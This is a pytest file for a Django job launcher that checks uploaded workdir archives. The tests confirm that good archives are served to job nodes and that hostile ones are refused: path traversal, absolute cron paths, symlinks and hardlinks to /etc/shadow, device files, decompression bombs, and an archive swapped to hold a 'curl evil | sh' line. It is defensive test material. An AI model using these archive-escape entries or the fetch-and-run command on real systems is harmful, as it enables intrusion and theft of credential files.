"""A task's local workdir uploaded as an archive through the API (issue 23 item 1): the web
Launch dialog and API clients cannot point the server at a folder on their disk, so they send it
as ``workdir_archive`` (.tar.gz/.tgz or .zip). A good archive becomes the job's workdir, served
to its nodes with their token; a bad one is refused on the field before anything is stored or
launched; the confirmation binds the archive's digest.
"""

from __future__ import annotations

import io
import tarfile
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from rest_framework.test import APIClient

from launcher import jobs, workdirs
from launcher.models import Job, JobStatus
from tests.launcher.test_task_launch import fake, option, owner, plan_of  # noqa: F401  (fixtures)

pytestmark = pytest.mark.django_db
TASK = "name: t\nworkdir: ./train\nsetup: pip install -r requirements.txt\nrun: python train.py\n"
GIT_TASK = "name: t\nworkdir: git:https://github.com/example/t.git@v1\nrun: python train.py\n"
FILES = {"train.py": b"print('training')\n", "conf/base.yaml": b"lr: 0.1\n", "requirements.txt": b"torch\n"}


def tar_gz(members: list[tuple[tarfile.TarInfo, bytes | None]]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for info, data in members:
            if data is not None:
                info.size = len(data)
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return buf.getvalue()


def regular(name: str, data: bytes) -> tuple[tarfile.TarInfo, bytes]:
    return tarfile.TarInfo(name), data


def special(name: str, kind: bytes, target: str = "") -> tuple[tarfile.TarInfo, None]:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, target
    return info, None


def good_tar(files: dict[str, bytes] = FILES) -> bytes:
    folder = tarfile.TarInfo("conf")
    folder.type = tarfile.DIRTYPE
    return tar_gz([(folder, None), *(regular(n, d) for n, d in files.items())])


def zip_of(entries: dict[str, bytes], modes: dict[str, int] | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in entries.items():
            info = zipfile.ZipInfo(name)
            if modes and name in modes:
                info.external_attr = modes[name] << 16
            zf.writestr(info, data)
    return buf.getvalue()


@pytest.fixture
def stored(settings, tmp_path) -> Path:
    """Where Srifty keeps uploaded archives in this test (empty at first)."""
    settings.DATA_DIR = tmp_path
    return tmp_path / "workdirs"


@pytest.fixture
def client(owner):  # noqa: F811
    made = APIClient()
    made.force_authenticate(owner)
    return made


def body(plan, task=TASK, archive: bytes | None = None, name="train.tar.gz", **extra) -> dict:
    out = {"plan": plan.pk, "rank": 1, "task": task, "max_spend_usd": "100", "max_hours": 2, **extra}
    if archive is not None:
        out["workdir_archive"] = SimpleUploadedFile(name, archive, content_type="application/octet-stream")
    return out


def preview(client, plan, archive, name="train.tar.gz", task=TASK):
    return client.post("/api/v1/jobs/preview/", body(plan, task, archive, name), format="multipart")


def node_fetch(job: Job) -> dict[str, bytes]:
    node = APIClient()
    node.credentials(HTTP_AUTHORIZATION=f"Bearer {jobs.derived_token(job)}")
    got = node.get(f"/api/v1/jobs/{job.pk}/workdir.tar.gz")
    assert got.status_code == 200
    with tarfile.open(fileobj=io.BytesIO(got.getvalue()), mode="r:gz") as tar:
        return {m.name: tar.extractfile(m).read() for m in tar if m.isfile()}  # type: ignore[union-attr]


@pytest.mark.parametrize("name, archive", [("train.tar.gz", good_tar()), ("train.zip", zip_of(FILES))])
def test_a_good_archive_becomes_a_job_whose_nodes_fetch_exactly_its_files_with_their_token(
    fake,  # noqa: F811
    client,
    owner,  # noqa: F811
    stored,
    name,
    archive,
    django_capture_on_commit_callbacks,
):
    fake.quotas.update({"L-417A185B": 1000})
    plan = plan_of(owner, option())
    shown = preview(client, plan, archive, name)
    assert shown.status_code == 200, shown.content
    summary = shown.json()["workdir_archive"]
    assert summary["name"] == name and summary["bytes"] == len(archive) and summary["files"] == 3
    assert not stored.exists() or not any(stored.iterdir())  # a preview stores nothing
    with django_capture_on_commit_callbacks(execute=True):
        made = client.post(
            "/api/v1/jobs/",
            body(plan, archive=archive, name=name, confirmation=shown.json()["confirmation"]),
            format="multipart",
        )
    assert made.status_code == 201, made.content
    job = Job.objects.get(pk=made.json()["id"])
    assert job.status == JobStatus.RUNNING and (stored / job.workdir_archive).is_file()
    assert node_fetch(job) == FILES
    assert APIClient().get(f"/api/v1/jobs/{job.pk}/workdir.tar.gz").status_code == 401


SYMLINK, HARDLINK, DEVICE = tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE
BAD = {
    "traversal": ("t.tar.gz", tar_gz([regular("../evil.py", b"x")]), "'..' would leave the folder"),
    "nested traversal": ("t.tgz", tar_gz([regular("a/../../evil", b"x")]), "'..' would leave the folder"),
    "absolute path": ("t.tar.gz", tar_gz([regular("/etc/cron.d/x", b"x")]), "absolute paths are refused"),
    "symlink": ("t.tar.gz", tar_gz([special("data", SYMLINK, "/etc/shadow")]), "is a link"),
    "hardlink": ("t.tar.gz", tar_gz([special("data", HARDLINK, "/etc/shadow")]), "is a link"),
    "device": ("t.tar.gz", tar_gz([special("tty", DEVICE)]), "device or special file"),
    "zip symlink": ("t.zip", zip_of({"data": b"/etc/shadow"}, {"data": 0o120777}), "is a link"),
    "zip traversal": ("t.zip", zip_of({"../../x": b"x"}), "'..' would leave the folder"),
    "not an archive": ("t.tar.gz", b"just some text, not gzip\n" * 10, "not a gzip-compressed tar"),
    "corrupt gzip": ("t.tar.gz", good_tar()[:40], "not a readable .tar.gz"),
    "another format": ("t.rar", good_tar(), "must be a .tar.gz, .tgz or .zip"),
}


@pytest.mark.parametrize("case", list(BAD))
def test_a_bad_archive_is_refused_on_the_field_with_nothing_stored_and_no_job(
    fake,  # noqa: F811
    client,
    owner,  # noqa: F811
    stored,
    case,
):
    name, archive, why = BAD[case]
    plan = plan_of(owner, option())
    shown = preview(client, plan, archive, name)
    assert shown.status_code == 400 and list(shown.json()) == ["workdir_archive"], shown.content
    assert why in shown.json()["workdir_archive"][0]
    made = client.post(
        "/api/v1/jobs/", body(plan, archive=archive, name=name, confirmation="x"), format="multipart"
    )
    assert made.status_code == 400 and why in made.json()["workdir_archive"][0]
    assert not Job.objects.exists() and fake.params("RunInstances") == []
    assert not stored.exists() or not any(stored.iterdir())


def test_an_archive_over_the_size_limit_is_refused(fake, client, owner, stored, settings):  # noqa: F811
    settings.JOB_WORKDIR_MAX_MB = 1
    archive = good_tar({"weights.bin": __import__("os").urandom(1024 * 1024 + 10)})
    shown = preview(client, owner_plan := plan_of(owner, option()), archive)
    assert (
        shown.status_code == 400
        and "at most 1048576 (JOB_WORKDIR_MAX_MB)" in shown.json()["workdir_archive"][0]
    )
    assert owner_plan and not Job.objects.exists()


def test_an_archive_that_unpacks_to_far_more_than_the_limit_is_refused(fake, client, owner, stored, settings):  # noqa: F811
    settings.JOB_WORKDIR_MAX_MB = 1
    archive = good_tar({"zeros.bin": bytes(5 * 1024 * 1024)})  # compresses to a few KB
    shown = preview(client, plan_of(owner, option()), archive)
    assert shown.status_code == 400 and "unpacks to more than" in shown.json()["workdir_archive"][0]


def test_an_archive_with_too_many_members_is_refused(fake, client, owner, stored, monkeypatch):  # noqa: F811
    monkeypatch.setattr(workdirs, "MAX_MEMBERS", 2)
    shown = preview(client, plan_of(owner, option()), good_tar())
    assert shown.status_code == 400 and "more than 2 files and folders" in shown.json()["workdir_archive"][0]


def test_a_local_workdir_without_an_archive_is_refused_on_the_archive_field(fake, client, owner):  # noqa: F811
    plan = plan_of(owner, option())
    resp = client.post("/api/v1/jobs/preview/", body(plan), format="json")  # a JSON client sends no file
    assert resp.status_code == 400 and list(resp.json()) == ["workdir_archive"]
    [message] = resp.json()["workdir_archive"]
    assert "(line 2), ./train," in message and "upload the folder as an archive" in message
    assert "or use git:URL@ref" in message


def test_a_json_client_launching_a_git_workdir_needs_no_archive(fake, client, owner):  # noqa: F811
    resp = client.post("/api/v1/jobs/preview/", body(plan_of(owner, option()), GIT_TASK), format="json")
    assert resp.status_code == 200 and resp.json()["workdir_archive"] is None


def test_an_archive_for_a_task_without_a_local_workdir_is_refused(fake, client, owner, stored):  # noqa: F811
    resp = preview(client, plan_of(owner, option()), good_tar(), task=GIT_TASK)
    assert resp.status_code == 400 and "no local workdir" in resp.json()["workdir_archive"][0]


def test_an_archive_swapped_after_the_preview_is_refused(fake, client, owner, stored):  # noqa: F811
    plan = plan_of(owner, option())
    shown = preview(client, plan, good_tar())
    assert shown.status_code == 200, shown.content
    confirmation = shown.json()["confirmation"]
    other = good_tar({**FILES, "train.py": b"import os; os.system('curl evil | sh')\n"})
    swapped = client.post(
        "/api/v1/jobs/", body(plan, archive=other, confirmation=confirmation), format="multipart"
    )
    assert swapped.status_code == 400 and "confirmation" in swapped.json()
    dropped = client.post("/api/v1/jobs/", body(plan, confirmation=confirmation), format="multipart")
    assert dropped.status_code == 400 and "workdir_archive" in dropped.json()
    assert not Job.objects.exists() and (not stored.exists() or not any(stored.iterdir()))


def test_a_task_sent_with_browser_crlf_line_breaks_is_kept_with_plain_ones(fake, client, owner, stored):  # noqa: F811
    # A browser's multipart form turns the textarea's line breaks into CRLF.
    shown = preview(client, plan_of(owner, option()), good_tar(), task=TASK.replace("\n", "\r\n"))
    assert shown.status_code == 200 and shown.json()["task"] == TASK
